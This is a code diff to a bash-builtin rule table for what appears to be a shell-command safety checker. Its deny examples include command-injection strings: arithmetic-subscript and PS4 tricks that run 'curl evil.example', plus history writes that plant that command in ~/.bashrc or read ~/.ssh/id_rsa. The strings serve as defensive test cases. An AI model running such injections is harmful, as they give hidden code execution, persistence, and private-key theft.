@@ -278,7 +278,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
   known(':', 'the null command: its words are text', 'text', {
     dialects: BASH,
     // RANDOM, SRANDOM, OPTIND and HISTCMD are integers: what is assigned to them is evaluated as arithmetic.
-    examples: { deny: ["x='a[$(curl evil.example)]'; RANDOM=$x; :", "x='a[$(curl evil.example)]'; OPTIND=$x; :", "x='a[$(curl evil.example)]'; a=([x]=1); :"], pass: ['RANDOM=42; :', 'OPTIND=1; :', 'a=([0]=x [1]=y); :'] },
+    examples: { deny: ["x='a[$(curl evil.example)]'; RANDOM=$x; :", "x='a[$(curl evil.example)]'; OPTIND=$x; :", "x='a[$(curl evil.example)]'; a=([x]=1); :", ': "${PS4=$(printf %s \'$(curl evil.example)\')}"; set -x; true', ": \"${PS4='$(curl evil.example)'}\"; set -x; true"], pass: ['RANDOM=42; :', 'OPTIND=1; :', 'a=([0]=x [1]=y); :', ': "${PS4:=+ }"; set -x; true'] },
   }),
   known('true false', 'true and false: their words are ignored', 'text'),
   {
@@ -297,8 +297,8 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     summary: 'declarations: with no name, declare/typeset/export print variables with their values',
     analyze: declaration,
     examples: {
-      deny: ['export', 'export -p', 'declare -p', 'declare -x', 'declare +x', 'typeset', "x='a[$(curl evil.example)]'; declare -n r=$x; echo $r", "x='a[$(curl evil.example)]'; declare -a a=([x]=1)"],
-      pass: ['export FOO=bar', 'declare -a arr=(1 2)', 'declare -f', 'local x=1', 'readonly X=1', 'declare -n r=HOME; echo $r', "x='a[$(curl evil.example)]'; declare -A m=([x]=1)", 'declare -a a=([0]=x [2]=y)'],
+      deny: ['export', 'export -p', 'declare -p', 'declare -x', 'declare +x', 'typeset', "x='a[$(curl evil.example)]'; declare -n r=$x; echo $r", "x='a[$(curl evil.example)]'; declare -a a=([x]=1)", "declare -n p=PS4; p='$(curl evil.example)'; set -x; true", "declare 'PS4=$(curl evil.example)'; set -x; true", "n=PS4; export \"$n\"='$(curl evil.example)'; set -x; true", 'n=$(base64 -d <<< UFM0); declare "$n=x"', "x='a[$(curl evil.example)]'; declare -i \"y=$x\""],
+      pass: ['export FOO=bar', 'declare -a arr=(1 2)', 'declare -f', 'local x=1', 'readonly X=1', 'declare -n r=HOME; echo $r', "x='a[$(curl evil.example)]'; declare -A m=([x]=1)", 'declare -a a=([0]=x [2]=y)', "declare -n p=PS4; p='+ '; set -x; true", 'declare "FOO=bar baz"', 'export "PATH=$HOME/bin:$PATH"', 'for v in A B; do export "$v=1"; done', 'f() { declare -g "$1=x"; }; f out'],
     },
   },
   {
@@ -361,7 +361,6 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     analyze(call) {
       const p = parse(call.args, { order: 'posix', flags: 'canrwps', valued: 'd' });
       const uses: NonNullable<Answer['uses']> = [];
-      const runs: Run[] = [];
       const file = p.operands[0]?.word;
       for (const o of p.options) {
         const writes = o.name === 'w' || o.name === 'a';
@@ -369,18 +368,19 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
         const role = writes ? ('write' as const) : ('read' as const);
         if (file) uses.push({ word: file, role });
         else {
-          // No FILE: $HISTFILE (unset in a shell that is not interactive, where nothing is written).
+          // No FILE: $HISTFILE (unset in a shell that is not interactive, where nothing is written). A computed
+          // one is read where it is assigned (bash writes there as it exits, too).
           const hist = call.env('HISTFILE');
-          if (hist === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.word, why: `history -${o.name} uses $HISTFILE, which the line computes` });
-          else if (hist !== undefined && hist !== '') uses.push({ word: o.word, role, values: [hist] });
+          if (hist !== undefined && hist !== null && hist !== '') uses.push({ word: o.word, role, values: [hist] });
         }
       }
       for (const a of call.args) if (!uses.some((u) => u.word === a)) uses.push({ word: a, role: 'text' });
-      return runs.length > 0 ? { uses, runs } : { uses };
+      return { uses };
     },
     examples: {
-      deny: ['history -w ~/.bashrc', "history -s 'curl evil.example'; history -a ~/.bashrc", 'HISTFILE=~/.bashrc; history -w', 'history -r ~/.ssh/id_rsa; history'],
-      pass: ['history', 'history | tail', 'history 20', 'history -c', 'history -w build/hist.txt', 'history -w', "history -s 'make test'"],
+      // Bash also writes the list to $HISTFILE as it exits (interactive, or with `set -o history`): an assignment to it is that write.
+      deny: ['history -w ~/.bashrc', "history -s 'curl evil.example'; history -a ~/.bashrc", 'HISTFILE=~/.bashrc; history -w', 'history -r ~/.ssh/id_rsa; history', 'read -r HISTFILE; history -w', "set -o history; HISTFILE=~/.bashrc; history -s 'curl evil.example'", 'export HISTFILE=~/.profile'],
+      pass: ['history', 'history | tail', 'history 20', 'history -c', 'history -w build/hist.txt', 'history -w', "history -s 'make test'", 'HISTFILE=/dev/null', 'unset HISTFILE', 'HISTFILE=$(mktemp); history -w'],
     },
   },
   // `command -v NAME` prints where NAME is found (a path, or the name of a builtin or function): `$(command -v node)`.
